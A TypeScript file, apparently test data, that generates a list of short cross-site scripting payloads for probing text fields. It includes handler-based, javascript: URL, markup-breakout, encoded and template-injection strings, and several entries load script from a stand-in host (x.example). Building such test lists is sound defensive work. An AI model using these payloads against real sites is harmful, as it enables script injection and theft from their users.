/**
 * What an attacker types into a text field. Each sets `window.hacked` where it runs. Ours, by the
 * ways in which browsers run script: elements, handlers, addresses, styles, foreign content, broken
 * markup, encodings, templates. All fit into the shortest text field (40 characters) or are cut from
 * the list of those that do not.
 */
const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin'];
const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'math'];

const handlers = HANDLERS.flatMap((handler) => TAGS.map((tag) => `<${tag} ${handler}=hacked=1>`));

const others = [
  '<script>hacked=1</script>',
  '<SCRIPT>hacked=1</SCRIPT>',
  '<script src=//x.example></script>',
  '<script src=data:,hacked=1></script>',
  '</script><script>hacked=1</script>',
  '"><script>hacked=1</script>',
  "'><script>hacked=1</script>",
  '--><script>hacked=1</script>',
  ']]><script>hacked=1</script>',
  '</title><script>hacked=1</script>',
  '</style><script>hacked=1</script>',
  '</textarea><img src=x onerror=hacked=1>',
  '" onmouseover="hacked=1',
  "' onfocus='hacked=1' autofocus='",
  '` onload=`hacked=1',
  '<a href=javascript:hacked=1>点</a>',
  '<a href="java\tscript:hacked=1">点</a>',
  '<a href=&#106;avascript:hacked=1>点</a>',
  '<a href=data:text/html,<script>1>点</a>',
  'javascript:hacked=1',
  'JaVaScRiPt:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  '<iframe src=javascript:hacked=1>',
  '<iframe srcdoc="<script>1</script>">',
  '<object data=javascript:hacked=1>',
  '<embed src=javascript:hacked=1>',
  '<form action=javascript:hacked=1><button>',
  '<button formaction=javascript:hacked=1>',
  '<base href=//x.example/>',
  '<link rel=stylesheet href=//x.example>',
  '<meta http-equiv=refresh content=0>',
  '<style>@import "//x.example"</style>',
  '<p style=background:url(//x.example)>',
  '<svg><script>hacked=1</script></svg>',
  '<svg><a href=javascript:hacked=1>点',
  '<svg><animate onbegin=hacked=1 dur=1>',
  '<math><mtext><script>hacked=1</script>',
  '<<img src=x onerror=hacked=1>',
  '<img src=x onerror=hacked=1//',
  '<img/src=x/onerror=hacked=1>',
  '<img src=x onerror\n=hacked=1>',
  '<!--><img src=x onerror=hacked=1>',
  '&lt;script&gt;hacked=1&lt;/script&gt;',
  '&#60;script&#62;hacked=1',
  '%3Cscript%3Ehacked=1%3C/script%3E',
  '\\u003cscript\\u003ehacked=1',
  '＜script＞hacked=1＜/script＞',
  '{{constructor.constructor("hacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is typed
  '${hacked=1}',
  '<%= hacked=1 %>',
  '#{hacked=1}',
  '<template><script>hacked=1</script>',
  '<noscript><img src=x onerror=hacked=1>',
  '<marquee onstart=hacked=1>',
  '<x onpointerenter=hacked=1>x',
  '<isindex type=image onerror=hacked=1>',
];

export const payloads: readonly string[] = [...others, ...handlers].filter(
  (text) => [...text].length <= 40 && !/[\t\n]/.test(text),
);
